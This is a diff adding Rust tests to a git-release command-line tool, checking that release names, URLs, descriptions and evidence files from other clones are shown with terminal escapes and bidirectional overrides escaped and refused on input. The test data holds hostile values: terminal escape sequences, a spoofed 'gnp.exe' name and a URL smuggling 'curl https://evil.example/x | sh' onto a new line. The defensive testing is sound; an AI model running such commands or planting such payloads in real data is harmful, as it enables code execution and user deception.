@@ -402,3 +402,214 @@ fn the_sites_copy_paste_command_quotes_a_fetched_evidence_path() {
         "the page's command ran code"
     );
 }
+
+/// Reads the store file at `path` (a note's fanout path too), changes its JSON with
+/// `edit` and writes it back with plain git: a record as a fetch from someone else's
+/// clone brings it, past every check of our own commands.
+fn edit_store(repo: &Repo, path: &str, edit: impl FnOnce(&mut serde_json::Value)) {
+    let text = repo.git(["cat-file", "blob", &format!("refs/notes/releases:{path}")]);
+    let mut value: serde_json::Value = serde_json::from_str(&text).unwrap();
+    edit(&mut value);
+    let bytes = serde_json::to_string_pretty(&value).unwrap() + "\n";
+    crate::hostile::put_store_file(repo, path, bytes.as_bytes());
+}
+
+/// The path of the note on `rev`'s commit in the notes tree.
+fn note_path(repo: &Repo, rev: &str) -> String {
+    let commit = repo.rev(&format!("{rev}^{{commit}}"));
+    repo.git(["ls-tree", "-r", "--name-only", "refs/notes/releases"])
+        .lines()
+        .find(|p| p.replace('/', "") == commit)
+        .unwrap()
+        .to_owned()
+}
+
+const ESC: &str = "\x1b]0;owned\x07\x1b[2J";
+
+/// No escape sequence, bell, carriage return or bidi override reaches the terminal.
+#[track_caller]
+fn assert_inert(bytes: &[u8], what: &str) {
+    let text = String::from_utf8_lossy(bytes);
+    for bad in [
+        '\x1b', '\x07', '\r', '\u{202e}', '\u{2066}', '\u{200b}', '\u{9b}',
+    ] {
+        assert!(!text.contains(bad), "{what} printed {bad:?} raw:\n{text}");
+    }
+}
+
+#[test]
+fn records_from_elsewhere_are_printed_with_their_escapes_shown() {
+    let env = Env::new();
+    let repo = env.repo("proj");
+    repo.commit("first", &[("a.txt", "a\n")]);
+    repo.release_ok(["milestone", "create", "M1"]);
+    repo.release_ok([
+        "create",
+        "v1.0",
+        "--ref",
+        "HEAD",
+        "--milestone",
+        "M1",
+        "--link",
+        "name=bin,url=https://e.com/bin",
+    ]);
+    let name = format!("evil{ESC} \u{202e}gnp.exe");
+    let url = "https://e.com/x\ncurl https://evil.example/x | sh";
+    let note = note_path(&repo, "v1.0");
+    edit_store(&repo, &note, |doc| {
+        let r = &mut doc["releases"]["v1.0"];
+        r["name"] = name.clone().into();
+        r["description"] = "fine\n\x1b[31mred\r\u{2066}hidden".into();
+        r["author"]["name"] = format!("Mallory{ESC}").into();
+        r["links"][0]["name"] = format!("bidi \u{202e}gnp.exe{ESC}").into();
+        r["links"][0]["url"] = url.into();
+        r["evidences"][0]["filepath"] = format!("evidence/x{ESC}.json").into();
+    });
+    edit_store(&repo, "milestones.json", |doc| {
+        doc["milestones"][0]["title"] = format!("M1{ESC}\u{200b}").into();
+        doc["milestones"][0]["description"] = "about\u{9b}31m".into();
+    });
+    let title = format!("M1{ESC}\u{200b}");
+
+    for args in [
+        &["view", "v1.0"][..],
+        &["link", "list", "v1.0"],
+        &["list"],
+        &["milestone", "view", &title],
+        &["milestone", "list"],
+        &["verify", "v1.0"],
+        &["evidence", "list", "v1.0"],
+        &["download", "v1.0", "-D", "dl"],
+    ] {
+        let out = repo.release(args);
+        assert!(!String::from_utf8_lossy(&out.stderr).contains("panicked"));
+        assert_inert(&out.stdout, &format!("{args:?} stdout"));
+        assert_inert(&out.stderr, &format!("{args:?} stderr"));
+    }
+    // The view shows what is there, escaped.
+    let view = repo.release_ok(["view", "v1.0"]);
+    assert!(
+        view.contains("evil\\u{1b}]0;owned\\u{7}\\u{1b}[2J \\u{202e}gnp.exe"),
+        "{view}"
+    );
+    assert!(
+        view.contains("fine\n\\u{1b}[31mred\\r\\u{2066}hidden"),
+        "{view}"
+    );
+
+    // One URL a line: the `\n` in a URL does not make a second, runnable line.
+    let urls = repo.release_ok(["download", "v1.0", "--url-only"]);
+    assert_eq!(urls, "https://e.com/x\\ncurl https://evil.example/x | sh\n");
+
+    // --json stays exact.
+    let json: serde_json::Value =
+        serde_json::from_str(&repo.release_ok(["view", "v1.0", "--json"])).unwrap();
+    assert_eq!(json["name"], name.as_str());
+    assert_eq!(json["assets"]["links"][0]["url"], url);
+}
+
+#[test]
+fn evidence_show_escapes_on_a_terminal_and_is_exact_in_a_pipe() {
+    let env = Env::new();
+    let repo = env.repo("proj");
+    repo.commit("first", &[("a.txt", "a\n")]);
+    repo.release_ok(["create", "v1.0", "--ref", "HEAD"]);
+    // A snapshot as someone else's clone may hold it: its bytes are not ours.
+    let listed: serde_json::Value =
+        serde_json::from_str(&repo.release_ok(["evidence", "list", "v1.0", "--json"])).unwrap();
+    let filepath = listed[0]["filepath"].as_str().unwrap().to_owned();
+    let hostile = format!("{{\"x\": \"{ESC}\u{202e}\"}}\n");
+    crate::hostile::put_store_file(&repo, &filepath, hostile.as_bytes());
+
+    let piped = repo.release(["evidence", "show", "v1.0"]);
+    assert_eq!(piped.stdout, hostile.as_bytes(), "exact bytes in a pipe");
+
+    // Under a pseudo-terminal (script(1)), the same command shows them escaped.
+    let binary = assert_cmd::cargo::cargo_bin!("git-release");
+    let mut cmd = std::process::Command::new("script");
+    env.apply(&mut cmd);
+    let out = cmd
+        .current_dir(repo.path())
+        .args([
+            "-qec",
+            &format!("{} evidence show v1.0", binary.display()),
+            "/dev/null",
+        ])
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let shown = String::from_utf8_lossy(&out.stdout).replace("\r\n", "\n");
+    assert_inert(shown.as_bytes(), "evidence show on a terminal");
+    assert!(shown.contains("\\u{1b}]0;owned"), "{shown}");
+}
+
+#[test]
+fn link_names_that_reorder_themselves_are_refused_on_input() {
+    let env = Env::new();
+    let repo = env.repo("proj");
+    let commit = repo.commit("first", &[("a.txt", "a\n")]);
+    repo.release_ok(["create", "v1.0", "--ref", "HEAD"]);
+    let before = refs(&repo);
+    let err = repo.release_err(
+        1,
+        [
+            "link",
+            "add",
+            "v1.0",
+            "--name",
+            "bidi \u{202e}gnp.exe",
+            "--url",
+            "https://e.com/a",
+        ],
+    );
+    assert!(
+        err.contains("bidirectional") && err.contains("\\u{202e}"),
+        "{err}"
+    );
+    assert!(!err.contains('\u{202e}'), "{err}");
+    let err = repo.release_err(
+        1,
+        [
+            "link",
+            "add",
+            "v1.0",
+            "--name",
+            "ok",
+            "--url",
+            "https://e.com/\u{2066}a",
+        ],
+    );
+    assert!(err.contains("\\u{2066}"), "{err}");
+    // An import file is input too.
+    let file = format!(
+        r#"[{{"tag_name": "v2.0", "created_at": "2024-01-01T00:00:00Z", "commit": {{"id": "{commit}"}},
+            "assets": {{"links": [{{"name": "x\u202egnp.exe", "url": "https://e.com/b"}}]}}}}]"#
+    );
+    let out = repo
+        .release_command()
+        .args(["import", "-", "--create-tags-from-commit"])
+        .write_stdin(file)
+        .output()
+        .unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(1),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(refs(&repo), before, "nothing written");
+    // Emoji sequences (joined by U+200D, a format character) stay accepted as names.
+    repo.release_ok([
+        "link",
+        "add",
+        "v1.0",
+        "--name",
+        "family 👨\u{200d}👩",
+        "--url",
+        "https://e.com/c",
+    ]);
+}
